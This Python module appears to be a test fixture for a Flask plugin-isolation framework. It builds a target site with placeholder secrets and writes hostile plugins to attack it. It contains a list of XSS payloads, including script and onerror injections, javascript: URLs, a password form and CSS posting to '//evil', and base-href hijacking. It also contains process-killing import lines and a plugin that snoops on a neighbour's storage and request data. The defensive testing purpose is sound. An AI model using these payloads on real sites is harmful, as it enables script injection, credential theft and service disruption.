"""The site that is attacked: its host, its hostile plugins, and the secrets that they want."""

from __future__ import annotations

import sys
from pathlib import Path

from isolated import HOST
from sieges import RECOVERY, Row

from flask_pluginkit.isolation.approvals import Approvals
from flask_pluginkit.isolation.digests import digest_of

PLUGINS = Path(__file__).parent / "hostile" / "plugins"

sys.path.insert(0, str(PLUGINS))  # to read the tables; nothing of them runs here

import effects  # noqa: E402
import lies  # noqa: E402
import replies  # noqa: E402

sys.path.remove(str(PLUGINS))

POISON = replies.POISON
TAKEN = lies.TAKEN

KEY = "key-of-sessions-5f0c"
TOKEN = "token-of-the-environment-77aa"
CONFIGURED = "secret-of-the-configuration-19bd"
FILED = "secret-in-a-file-c0de"
TREASURE = "treasure-of-the-neighbour-4a4a"
SECRETS = (KEY, TOKEN, CONFIGURED, FILED, TREASURE)

SITE = (
    HOST.replace("the site's secret", KEY).replace(
        "manager = ",
        """
app.config["API_SECRET"] = os.environ["SECRET_OF_SITE"]

@app.context_processor
def users():
    return {"current_user": "reader"}

manager = """,
    )
    + """
@app.context_processor
def late_users():
    return {"late_user": "late"}

@app.before_request
def mark():
    from flask import g
    g.mark = "marked"

NAMES = "|".join([
    "{{ current_user }}", "{{ late_user }}", "{{ session.admin|default('nobody') }}",
    "{{ request.path }}", "{{ '<'|e }}", "{{ url_for('index') }}", "{{ g.mark }}",
    "{{ config.APPLICATION_ROOT }}", "{{ ['a', 'b']|join }}", "{{ ''|default('d', true) }}",
    "{{ range(2)|list }}", "{{ emit_tep is defined }}", "{{ dict(a=1).a }}",
])

@app.route("/names")
def names():
    return render_template_string(NAMES)
"""
)
NAMES = "reader|late|nobody|/names|&lt;|/|marked|/|ab|d|[0, 1]|True|1"
"""What the page ``/names`` says as long as nobody else has its names."""

NEIGHBOUR = f"""
import os
from pathlib import Path
from flask import Blueprint, current_app, request
from flask_pluginkit import LocalStorage

blueprint = Blueprint("neighbour", __name__)

@blueprint.route("/")
def index():
    return "neighbour"

@blueprint.route("/hide")
def hide():
    home = Path(os.environ.get("TMPDIR") or current_app.instance_path)
    (home / "treasure").write_text("{TREASURE}")
    LocalStorage().set("treasure", "{TREASURE}")
    return {{"home": str(home), "pid": os.getpid()}}

@blueprint.route("/kept")
def kept():
    home = Path(os.environ.get("TMPDIR") or current_app.instance_path)
    return {{"names": sorted(os.listdir(home)), "value": LocalStorage().get("treasure")}}

@blueprint.route("/told", methods=["GET", "POST"])
def told():
    return {{"headers": dict(request.headers), "environ": {{
        key: str(value) for key, value in request.environ.items()
    }}, "size": len(request.get_data())}}

def register():
    return {{"bep": {{"blueprint": blueprint, "prefix": "/neighbour"}}}}
"""

MANIFEST = """
__plugin_name__ = {name!r}
__version__ = "1.0.0"
__author__ = "Mallory"
__permissions__ = {permissions!r}
"""


def add(folder: Path, name: str, body: str, permissions: tuple[str, ...] = ()) -> Path:
    """Write a plugin of the site with its weapons, and approve what it asks for."""
    place = folder / "plugins" / name
    place.mkdir(parents=True)
    manifest = MANIFEST.format(name=name, permissions=sorted(permissions))
    (place / "__init__.py").write_text(manifest + body, encoding="utf-8")
    for source in PLUGINS.glob("*.py"):
        (place / source.name).write_text(source.read_text(encoding="utf-8"), encoding="utf-8")
    return place


def approve(folder: Path, name: str, permissions: tuple[str, ...]) -> None:
    """Approve what a plugin asks for, as its operator does."""
    if permissions:
        digest = digest_of(folder / "plugins" / name)
        approvals = Approvals(folder / "state")
        approvals.approve(name, permissions, digest, version="1.0.0", by="the operator")


NASTY = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "<b id=login class=admin>x</b>",
    '<form action="//evil"><input name=password></form>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(//evil)}</style>",
    '<b style="position:fixed">x</b>',
    "<base href=//evil><meta http-equiv=refresh content=0>",
    '<img src="//evil/x.png">',
    "</div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a hx-get=/page1 hx-trigger=load data-x=1>x</a>",
    "<x contenteditable onblur=alert(1) tabindex=1>x</x>",
)
"""Parts of the site's pages that would run, load or look like what isn't theirs."""

MARKUP = """
from flask import Blueprint, Response, request

NASTY = {nasty!r}
blueprint = Blueprint("markup", __name__)

@blueprint.route("/page")
def page():
    return Response("<script>alert(1)</script><b>fine</b>", mimetype=request.args["type"])

def register():
    return {{
        "bep": {{"blueprint": blueprint, "prefix": "/markup"}},
        "tep": {{f"nasty{{number}}": html for number, html in enumerate(NASTY)}},
        "dcp": {{f"nasty{{number}}": lambda html=html: html for number, html in enumerate(NASTY)}},
    }}
"""

# ---- rows ------------------------------------------------------------------------------------

FORGED = """
from flask_pluginkit.isolation.messages import (
    Results,
)
from . import armoury, replies

armoury.forge(replies.{table}[{name!r}], {kind})
register = armoury.register_with({name!r}, armoury.arm, tep={{"slot_{name}": "harmless"}})
"""

EFFECT = """
from . import armoury, effects

register = armoury.register_with({name!r}, effects.VIEWS[{name!r}])
"""

LIE = """
from . import armoury, lies

lies.tell(lies.LIES[{name!r}])
register = armoury.register_with({name!r}, str)
"""

CONTEXT = """
from flask import Blueprint
from .lies import TAKEN

blueprint = Blueprint("context", "context")

@blueprint.app_context_processor
def names():
    return {{name: "OWNED" for name in TAKEN}} | {{"session": {{"admin": "OWNED"}}}}

def register():
    return {{"bep": {{"blueprint": blueprint, "prefix": "/context"}}}}
"""

ELSEWHERE = """
from . import armoury, effects

def leave(*_):
    effects.VIEWS[{effect!r}]()

register = armoury.register_with({name!r}, str, **{more})
"""

ANY = (0, 200, 302, 404, 500, 502, 503)
FINE = (200,)

STATUSES = {
    **dict.fromkeys(("setcookie", "hopbyhop", "accel", "script"), FINE),
    **dict.fromkeys(("second", "guessing", "secondlate", "everywhere", "records"), ANY),
    **dict.fromkeys(
        ("endless", "endlessempty", "endlesslog", "endlesshtml", "lingering", "stops"), ANY
    ),
    **dict.fromkeys(("elsewhere", "elsewhere2", "elsewhere3", "elsewhere5"), (302, 500, 502)),
    **dict.fromkeys(("elsewhere4", "crlfetag", "nulheader"), (200, 302, 500, 502)),
    "abortxss": (404,),
    **dict.fromkeys(("loopthread", "logflood", "spoil"), ANY),
}
FILES = dict.fromkeys(("disk", "diskhidden", "inodes"), ("files:1MB",))
SPIES = {"seen": (), "reach": ("files:1MB",), "othersvalues": ("storage",)}
"""Views that are asked with what there is to be found, and their permissions."""

IMPORTS = {
    "importloop": "while True: pass",
    "importexit": "import os; os._exit(0)",
    "importsysexit": "import sys; sys.exit(0)",
    "importabort": "import os; os.abort()",
    "importrecursion": "from .effects import recursion; recursion()",
    "importnull": "from .effects import null; null()",
    "importsilent": "import os; os.closerange(3, 256)",
    "importodd": "from .effects import odd; odd()",
}


def _more() -> list[Row]:
    """Attacks at other extension points than views."""
    rows = []
    for point, more, source in (
        ("tep", '{"tep": {"slot_%s": "{{ leave() }}"}, "global": {"leave": leave}}', ""),
        ("filter", '{"filter": {"mark_%s": leave}}', "{{ 'x'|mark_%s }}"),
        ("dcp", '{"dcp": {"event_%s": leave}}', "{{ emit_dcp('event_%s') }}"),
    ):
        for effect in ("exit", "sysexit", "odd", "loop"):
            name = f"{point}{effect}"
            body = ELSEWHERE.format(name=name, effect=effect, more=more % name)
            part = (source or "{{ emit_tep('slot_%s') }}") % name
            path = f"/page?source=begin{part.replace(' ', '%20').replace('|', '%7C')}end"
            rows.append(Row(name=name, source=body, path=path, statuses=(200, 500, 503)))
    for effect in ("exit", "loop"):
        name = f"hook{effect}"
        body = HOOKED.format(name=name, effect=effect)
        path = f"/{name}-strike"
        rows.append(
            Row(name=name, source=body, path=path, statuses=(404,), permissions=("requests",))
        )
    return rows


HOOKED = """
__optional__ = True

from . import armoury, effects

def hook():
    from flask import request
    if request.path == "/{name}-strike":
        effects.VIEWS[{effect!r}]()

register = armoury.register_with({name!r}, str, hep={{"before_request": hook}})
"""


def rows() -> list[Row]:
    """All attacks that are set off by a request."""
    found = [
        Row(
            name=name,
            source=FORGED.format(name=name, table="REPLIES", kind="object"),
            statuses=STATUSES.get(name, (500, 502, 503)),
        )
        for name in replies.REPLIES
    ]
    found += [
        Row(
            name=name,
            source=FORGED.format(name=name, table="BATCHES", kind="Results"),
            path=f"/page?source=begin%7B%7Bemit_tep('slot_{name}')%7D%7Dend",
            statuses=(200,),
        )
        for name in replies.BATCHES
    ]
    found += [
        Row(
            name=name,
            source=EFFECT.format(name=name),
            permissions=FILES.get(name, ()),
            patience=1.5 if name in FILES else RECOVERY,
            statuses=STATUSES.get(name, (0, 500, 502, 503)),
        )
        for name in effects.VIEWS
        if name not in SPIES
    ]
    return [*found, *_more()]


def quiet_rows() -> list[Row]:
    """Attacks that happen while the site starts."""
    found = [Row(name=name, source=LIE.format(name=name)) for name in lies.LIES]
    found.append(Row(name="context", source=CONTEXT.format()))
    return found + [
        Row(name=name, source=f"{body}\ndef register():\n    return {{}}\n")
        for name, body in IMPORTS.items()
    ]
